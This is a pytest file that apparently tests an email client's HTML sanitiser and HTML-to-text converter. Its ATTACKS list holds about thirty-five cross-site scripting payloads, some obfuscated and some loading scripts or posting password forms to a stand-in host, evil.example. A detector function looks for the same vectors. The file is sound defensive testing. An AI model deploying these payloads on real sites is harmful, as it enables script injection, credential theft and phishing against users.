"""Sanitised HTML carries no active content; HTML bodies become readable text."""

from __future__ import annotations

import html as html_module
import re
from html.parser import HTMLParser

import pytest

from sportello.core.html import html_to_text, sanitize_html
from sportello.providers.email.parsing import parse_message

from .corpora import FIXTURES

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>hi</body>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="#" onclick="steal()">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:x)}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1)); color: red">x</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake login</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<img src="x" style="x:ex/**/pression(alert(1))">',
]
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "form", "input", "button", "textarea", "select",
    "object", "embed", "applet", "meta", "base", "link", "style", "svg", "math", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "xlink:href", "srcdoc"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def active_content(sanitized: str) -> list[str]:
    """Everything in ``sanitized`` a browser could execute or that could leave the page."""
    collector = _Collector()
    collector.feed(sanitized)
    problems = []
    for tag, attributes in collector.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"handler {name}")
            plain = re.sub(r"[\x00-\x20]", "", html_module.unescape(value)).lower()
            if name in URL_ATTRIBUTES and plain.startswith(("javascript:", "vbscript:", "data:")):
                problems.append(f"{name}={value!r}")
            if name == "style" and re.search(
                r"url\(|expression|javascript|behavior|binding|\\\\", plain
            ):
                problems.append(f"style={value!r}")
            if name == "style" and "position" in plain:
                problems.append(f"style={value!r}")
    return problems


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitised_html_has_no_active_content(attack):
    sanitized = sanitize_html(f"<div>before</div>{attack}<p>after</p>")

    assert active_content(sanitized) == [], sanitized
    assert "before" in sanitized


def test_harmless_formatting_links_and_inline_images_survive():
    sanitized = sanitize_html(
        '<p style="color: #333; font-weight: bold">Ciao <a href="https://negozio.it/x">qui</a>'
        ' <img src="cid:logo@negozio" alt="logo"> <a href="mailto:info@negozio.it">mail</a></p>'
    )

    assert 'style="color:#333;font-weight:bold"' in sanitized
    assert 'href="https://negozio.it/x"' in sanitized
    assert 'src="cid:logo@negozio"' in sanitized
    assert 'rel="noopener noreferrer nofollow"' in sanitized


def test_hostile_fixture_is_sanitised_inside_a_full_parse():
    parsed = parse_message((FIXTURES / "it_html_only.eml").read_bytes())

    assert active_content(parsed.html_sanitized) == []
    assert "non riesco" in parsed.html_sanitized
    assert "alert" not in parsed.text


def test_html_to_text_keeps_lines_lists_and_marks_blockquotes_as_quotes():
    text = html_to_text(
        "<html><head><title>T</title><style>p{}</style></head><body>"
        "<p>Buongiorno,</p><div>riga uno<br>riga&nbsp;due</div>"
        "<ul><li>primo</li><li>secondo</li></ul>"
        "<blockquote>citato<blockquote>più vecchio</blockquote></blockquote>"
        "<script>alert(1)</script></body></html>"
    )

    assert text == (
        "Buongiorno,\n\nriga uno\nriga due\n\n- primo\n- secondo\n\n> citato\n> > più vecchio"
    )


def test_html_with_an_unclosed_head_still_gives_its_body_text():
    assert html_to_text("<html><head><title>Ordine</title><body><p>Ciao</p>") == "Ciao"
